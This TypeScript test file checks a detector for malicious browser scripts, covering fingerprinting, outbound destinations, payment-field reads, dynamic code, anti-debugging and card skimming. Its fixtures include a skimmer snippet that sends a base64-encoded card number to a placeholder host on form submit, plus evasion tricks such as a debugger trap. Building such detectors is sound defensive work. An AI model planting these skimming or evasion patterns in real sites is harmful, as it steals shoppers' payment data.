import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { findAddresses, findDestinations } from './destinations.ts'
import { findAntiDebugging } from './anti-debugging.ts'
import { type Use, usesInCode } from '../syntax/uses.ts'
import { findDynamicCode } from './dynamic-code.ts'
import { findFields } from './fields.ts'
import { findSignals } from './signals.ts'
import { findSkimming } from './skimmer.ts'
import { openParser } from '../sandbox/readable-code.ts'

const parse = await openParser()
const usesOf = (code: string) => usesInCode(parse(code))

const found = (code: string) => {
  const uses = usesOf(code)
  const row = (what: string | undefined, lines: number[]) => `${what}: ${lines.join(',')}`
  return {
    signals: () => findSignals(uses).map(({ id, lines }) => row(id, lines)),
    destinations: () =>
      findDestinations(uses).map(({ kind, address, lines }) => row(`${kind} ${address}`, lines)),
    fields: () => findFields(uses).map(({ selector, holds, lines }) => row(`${selector} ${holds}`, lines)),
    dynamicCode: () => findDynamicCode(uses).map(({ id, lines }) => row(id, lines)),
    antiDebugging: () =>
      findAntiDebugging(uses, [{ tree: parse(code), hasLines: true }]).map(({ id, lines }) => row(id, lines)),
  }
}

type Part = keyof ReturnType<typeof found>
const cases: [part: Part, code: string, ...rows: string[]][] = [
  ['signals', 'const n = navigator\nn.platform', 'platform: 2'],
  ['signals', 'const { userAgent } = window.navigator', 'user-agent: 1'],
  [
    'signals',
    '(function (w, d) {\n w.navigator["webdriver"]; d.cookie })(window, document)',
    'webdriver: 2',
    'cookies: 2',
  ],
  ['signals', 'if ("getBattery" in navigator) {}', 'battery: 1'],
  ['signals', 'addEventListener("mousemove", f); x.addEventListener("keyup", f)', 'mouse: 1', 'keys: 1'],
  ['signals', 'function f(n) { return n.platform + this.name }'],
  ['signals', 'const screen = { width: 1 }; screen.width'],
  ['signals', 'new (window.AudioContext || window.webkitAudioContext)()', 'audio-context: 1'],
  [
    'destinations',
    'const host = "https://a.example"\nfetch(host + "/x?" + y)',
    'fetch https://a.example/x?…: 2',
  ],
  ['destinations', 'const r = new XMLHttpRequest(); r.open("POST", `/log/${id}`)', 'XHR /log/…: 1'],
  ['destinations', 'navigator.sendBeacon(atob("aHR0cHM6Ly9iLmV4YW1wbGU="))', 'beacon https://b.example: 1'],
  ['destinations', 'new WebSocket("wss://c.example")', 'WebSocket wss://c.example: 1'],
  ['destinations', 'const i = new Image(); i.src = "//d.example/p.gif"', 'image //d.example/p.gif: 1'],
  ['destinations', 'const s = document.createElement("script"); s.src = u', 'script undefined: 1'],
  ['destinations', 'document.createElement("form").action = "/pay"', 'form /pay: 1'],
  ['destinations', 'el.setAttribute("src", "https://e.example/x")', 'element https://e.example/x: 1'],
  ['destinations', 'const c = { url: "https://f.example" }; fetch(c.url)', 'fetch https://f.example: 1'],
  ['fields', 'document.getElementById("cc-number").value', 'cc-number Card number: 1'],
  ['fields', '$("#cvv").val()', '#cvv Card security code: 1'],
  ['fields', 'const f = document.querySelector("#a")\nf.value', '#a undefined: 2'],
  ['fields', 'document.querySelector("#a").value = 1'],
  ['fields', 'document.querySelectorAll("input").forEach(f)', 'input Every field of the page: 1'],
  ['fields', 'new FormData(form)', 'whole form Every field of a form: 1'],
  [
    'dynamicCode',
    'eval(x)\nnew Function("a", b)\nsetTimeout("f()", 1)',
    'eval: 1',
    'function: 2',
    'timer: 3',
  ],
  ['dynamicCode', 'setTimeout(f, 1); document.createElement("div")'],
  ['dynamicCode', 'document.createElement("script"); import(x)', 'script-element: 1', 'import: 1'],
  ['antiDebugging', 'debugger', 'debugger: 1'],
  ['antiDebugging', 'Function("debugger")()', 'made-debugger: 1'],
  ['antiDebugging', 'if (window.outerWidth - window.innerWidth > 160) x()', 'window-gap: 1'],
  ['antiDebugging', 'e.keyCode === 123', 'keys: 1'],
  ['antiDebugging', 'console.log = () => {}', 'console: 1'],
]

describe('finds in code', () => {
  for (const [part, code, ...rows] of cases) {
    test(`${part}: ${code.replaceAll('\n', ' ⏎ ')}`, () =>
      assert.deepEqual(found(code)[part]().toSorted(), rows.toSorted()))
  }
})

describe('tells checks from reads', () => {
  for (const [code, ...checked] of [
    ['if ("getBattery" in navigator) {}', 'battery'],
    ['if ("getBattery" in navigator) navigator.getBattery()'],
    ['typeof OfflineAudioContext', 'audio-offline'],
    ['if (window.localStorage) f()', 'local-storage'],
    ['window.localStorage && localStorage.getItem("a")'],
    ['if (navigator.webdriver) f()'],
    ['x = window.indexedDB != null', 'indexed-db'],
  ] as const) {
    test(code, () => {
      const found = findSignals(usesOf(code)).filter(({ isOnlyChecked }) => isOnlyChecked)
      assert.deepEqual(
        found.map(({ id }) => id),
        checked,
      )
    })
  }

  test('in a run, where a function that is never called was only checked for', () => {
    const read = (path: string): Use => ({ how: 'read', path, input: [] })
    const [battery, memory] = findSignals([read('navigator.getBattery'), read('navigator.deviceMemory')])
    assert.equal(battery?.isOnlyChecked, true)
    assert.equal(memory?.isOnlyChecked, false)
  })
})

describe('names the addresses in the code', () => {
  for (const [code, ...addresses] of [
    ['const a = "https://a.example/x"; f(a)', 'https://a.example/x'],
    ['f("see http://a.example/x, or not")', 'http://a.example/x'],
    ['f(`wss://b.example/${id}`)', 'wss://b.example/'],
    ['const base = "https://a.example"; fetch(base + "/x")'],
    ['document.createElementNS("http://www.w3.org/2000/svg", "svg")'],
    ['a.href = document.createElement("a").href = "https://link.example/"', 'https://link.example/'],
  ] as const) {
    test(code, () => {
      const uses = usesOf(code)
      const found = findAddresses(parse(code), uses, findDestinations(uses))
      assert.deepEqual(
        found.map(({ address }) => address),
        addresses,
      )
    })
  }
})

describe('rates a script as a skimmer', () => {
  const verdict = (code: string) => {
    const uses = usesOf(code)
    const [fields, destinations] = [findFields(uses), findDestinations(uses)]
    const proof = { run: 'finished', isRead: true, readablePercent: 100, unseen: [] } as const
    return findSkimming({
      uses,
      fields,
      destinations,
      antiDebugging: [],
      untraced: [],
      isPassedOn: false,
      isFollowed: true,
      proof,
    }).verdict
  }
  const read = 'document.querySelector("#card-number").value'
  for (const [code, expected] of [
    [
      `addEventListener("submit", () => { new Image().src = "https://x.example/?" + btoa(${read}) })`,
      'likely',
    ],
    [`form.addEventListener("submit", () => fetch("/pay", { body: ${read} }))`, 'some'],
    ['navigator.sendBeacon("https://x.example", navigator.userAgent)', 'none'],
    [
      'new Image().src = "data:image/gif;base64," + btoa(document.querySelector("#card-number").value)',
      'some',
    ],
    [
      'document.querySelectorAll("input").forEach((one) => one.addEventListener("keyup", () => fetch("https://x.example")))',
      'none',
    ],
    ['window.fetch = function () {}', 'some'],
    ['console.log(1)', 'none'],
  ] as const) {
    test(`${expected}: ${code}`, () => assert.equal(verdict(code), expected))
  }
})
